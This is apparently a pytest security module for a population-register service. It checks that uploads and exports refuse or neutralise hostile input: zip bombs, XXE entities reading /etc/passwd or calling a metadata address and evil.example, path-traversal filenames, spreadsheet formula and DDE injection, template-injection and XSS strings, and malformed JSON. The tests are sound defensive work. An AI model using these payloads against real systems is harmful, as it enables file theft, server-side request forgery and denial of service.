"""Files made to burst, to reach out or to run: on their way in, and in what goes out of what came in."""

import io
import zipfile
import zlib
from dataclasses import replace
from itertools import chain
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook

from adapters.reports.page import write_page
from adapters.sheets.sheet import Limits
from api.app import BODY_LIMITS
from exchange.reporting.wanted import ReportName
from tests.api.nodes import Served
from tests.attacks.refusing import refused
from tests.builders import XICHENG, an_id_number
from tests.reports.making import made, some_books
from tests.sheets.workbooks import HEADER, a_csv, a_person, a_register, repacked

SHEET = "xl__worksheets__sheet1_xml"
FORMULAS = ("=SUM(1)", "+cmd", "-cmd", "@SUM(A1)", "=HYPERLINK(1)", "=cmd|' /C calc'!A0", "＝SUM(1)", "＋cmd", "＠SUM(1)")


def sent(node: Served, data: bytes, name: str = "流出.xlsx", layout: str = "outflow") -> httpx.Response:
    return node.call("POST", "/imports", files={"file": (name, data)}, data={"layout": layout}, of=XICHENG)


def a_zip(*parts: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts:
            archive.writestr(name, content)
    return out.getvalue()


def with_a_lie(data: bytes, name: bytes) -> bytes:
    """The zip, whose directory says of one part that it unpacks to a thousand bytes."""
    changed, at = bytearray(data), data.rindex(b"PK\x01\x02")
    while changed[at + 46 : at + 46 + len(name)] != name:
        at = data.rindex(b"PK\x01\x02", 0, at)
    changed[at + 24 : at + 28] = (1000).to_bytes(4, "little")
    return bytes(changed)


def test_a_zip_bomb(full: Served):
    bomb = repacked(a_register(), **{SHEET: b"<a>" + b" " * (64 * 2**20) + b"</a>"})
    refused(sent(full, bomb), 422, "zip-bomb")


def test_a_zip_bomb_that_lies_about_its_size(full: Served):
    bomb = repacked(a_register(), **{SHEET: b"<a>" + b" " * (64 * 2**20) + b"</a>"})
    refused(sent(full, with_a_lie(bomb, b"xl/worksheets/sheet1.xml")), 422, "damaged")


def test_a_zip_of_very_many_parts(full: Served):
    many = a_zip(("xl/workbook.xml", b"<a/>"), *((f"{n}", b"") for n in range(Limits().entries + 1)))
    refused(sent(full, many), 422, "zip-bomb")


def test_a_zip_with_one_name_twice(full: Served):
    with pytest.warns(UserWarning, match="Duplicate"):
        twice = a_zip(("xl/workbook.xml", b"<a/>"), ("xl/workbook.xml", b"<b/>"))
    refused(sent(full, twice), 422, "damaged")


def test_a_zip_within_a_zip(full: Served):
    refused(sent(full, a_zip(("台账.xlsx", a_register()))), 422, "archive-of-files")


@pytest.mark.parametrize(
    "declared",
    [
        b'<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE a SYSTEM "http://169.254.169.254/latest/meta-data/">',
        b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]>',
    ],
    ids=["a billion laughs", "a file of the machine", "a call into the hosting", "a parameter entity"],
)
def test_xml_that_declares(full: Served, declared: bytes):
    part = b'<?xml version="1.0"?>' + declared + b"<worksheet/>"
    refused(sent(full, repacked(a_register(), **{SHEET: part})), 422, "unsafe-xml")


def test_xml_in_another_encoding_hides_nothing(full: Served):
    part = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><worksheet/>'.encode("utf-16")
    refused(sent(full, repacked(a_register(), **{SHEET: part})), 422, "damaged")


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"%PDF-1.7", "not-a-sheet"),
        (b"<html>", "not-a-sheet"),
        (b"\x1f\x8b\x08", "not-a-sheet"),
        (b"MZ\x90\0", "header-not-found"),  # a text of one line
        (b"", "empty-file"),
    ],
    ids=["a PDF", "a page", "a gzip", "a program", "nothing"],
)
def test_what_is_no_sheet_under_a_sheets_name(full: Served, data: bytes, code: str):
    refused(sent(full, data), 422, code)


def test_a_csv_of_one_endless_line(full: Served):
    refused(sent(full, ",".join(HEADER).encode() + b"\n" + b"a" * 5_000_000, "a.csv"), 422, "line-too-long")


def test_a_form_larger_than_any_file(full: Served):
    headers = {"authorization": f"Bearer {full.key('clerk', XICHENG)}", "content-type": "multipart/form-data; boundary=x"}
    head = b'--x\r\ncontent-disposition: form-data; name="file"; filename="a.csv"\r\n\r\n'
    pieces = (b" " * 2**20 for _ in range(BODY_LIMITS["/api/v1/imports"] // 2**20 + 2))
    refused(full.http.post("/api/v1/imports", content=chain([head], pieces), headers=headers), 413, "request-too-large")


def test_a_form_of_very_many_fields(full: Served):
    fields = {f"f{n}": "x" for n in range(2_000)}
    answer = full.call("POST", "/imports", files={"file": ("a.csv", b"a")}, data={"layout": "outflow", **fields}, of=XICHENG)
    refused(answer, 422, "invalid")


def test_a_form_whose_boundary_is_missing(full: Served):
    headers = {"content-type": "multipart/form-data"}
    refused(full.call("POST", "/imports", content=b"--x\r\n", headers=headers, of=XICHENG), 422, "invalid")


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../../../etc/cron.d/x.csv", "x.csv"),
        ("..\\..\\windows\\x.csv", "x.csv"),
        ("/etc/passwd", "passwd"),
        ("C:\\台账\\a.csv", "a.csv"),
    ],
)
def test_a_path_in_a_files_name(full: Served, name: str, kept: str):
    """Nothing is written under a name that was sent; what is kept of it is its end."""
    data = a_csv(HEADER, a_person(公民身份号码=an_id_number(100 + len(name) + len(kept))))
    imported = sent(full, data, name).json()
    assert imported["filename"] == kept
    assert not [path for path in full.office.folder.rglob("*") if path.name == kept]


@pytest.mark.parametrize(
    "path", ["../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/core.py", "..\\core.py", "swagger-ui.css/../../core.py"]
)
def test_a_path_out_of_the_viewers_files(full: Served, path: str):
    answer = full.http.request("GET", httpx.URL(full.url).copy_with(raw_path=f"/static-offline-docs/{path}".encode()))
    refused(answer, 404, "not-found")


@pytest.fixture(scope="module")
def hostile(full: Served) -> Served:
    """The node with people whose names are formulas, by sheet and by hand."""
    for number, text in enumerate(FORMULAS):
        person = {"name": text, "document": {"type": "id_number", "number": an_id_number(50 + number)}}
        full.post("/entries", {"register": "outflow", "origin": XICHENG, "destination": "420106", "person": person}, of=XICHENG)
    return full


def test_formulas_in_a_csv_that_goes_out(hostile: Served):
    answer = hostile.call("GET", "/exports/entries", params={"register": "outflow", "format": "csv"}, of=XICHENG)
    cells = [cell for line in answer.content.decode("utf-8-sig").splitlines() for cell in line.split(",")]
    assert len([cell for cell in cells if cell.startswith(("'", "\"'"))]) >= len(FORMULAS) - 1
    assert not [cell for cell in cells if cell.strip('"').startswith(("=", "+", "@", "\t", "＝"))]


def test_formulas_in_an_xlsx_that_goes_out(hostile: Served):
    answer = hostile.call("GET", "/exports/entries", params={"register": "outflow", "format": "xlsx"}, of=XICHENG)
    cells = [cell for row in load_workbook(io.BytesIO(answer.content)).worksheets[0].iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n"}  # and no "f"
    assert any(str(cell.value).startswith("=HYPERLINK") for cell in cells)


def test_a_file_goes_out_to_be_kept_and_not_to_be_shown(hostile: Served):
    answer = hostile.call("GET", "/exports/entries", params={"register": "outflow", "format": "csv"}, of=XICHENG)
    assert answer.headers["content-disposition"].startswith("attachment")
    assert answer.headers["x-content-type-options"] == "nosniff"


TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "<script>alert(1)</script>",
)


@pytest.mark.parametrize("text", [*TEMPLATES, '"><img src=x onerror=alert(1)>', "</style><script>"])
def test_a_template_in_what_a_printed_page_shows(text: str):
    document = made(some_books(), ReportName.FEEDBACK)
    said = document.title._replace(zh=text, en=text)
    hostile = replace(document, title=said, lead=(said,))
    page = write_page(hostile).decode()
    assert "<script" not in page
    assert "<img" not in page
    assert "49" not in page.replace("{{7*7}}", "")


def test_a_deflated_body_at_what_takes_json(full: Served):
    """No coding of a request is undone but a batch's: what comes packed is no JSON."""
    data = zlib.compress(b'{"document": {}}')
    headers = {"content-encoding": "deflate", "content-type": "application/json"}
    answer = full.call("POST", "/entries/search", content=data, headers=headers, of=XICHENG)
    refused(answer, 422, "not-i-json")


BODIES: dict[str, bytes] = {
    "nested too deep": b'{"a":' * 100_00 + b"1" + b"}" * 100_00,
    "with a name twice": b'{"document": 1, "document": 2}',
    "with a number of a hundred thousand digits": b'{"document": ' + b"9" * 100_000 + b"}",
    "with NaN": b'{"document": NaN}',
    "with a lone surrogate": b'{"document": "\\ud800"}',
    "with U+0000": b'{"document": "\\u0000"}',
    "in another encoding": '{"document": {}}'.encode("utf-16"),
}


@pytest.mark.parametrize("body", BODIES.values(), ids=BODIES)
def test_json(full: Served, body: bytes):
    answer: Any = full.call("POST", "/entries/search", content=body, headers={"content-type": "application/json"}, of=XICHENG)
    refused(answer, 422, "not-i-json")
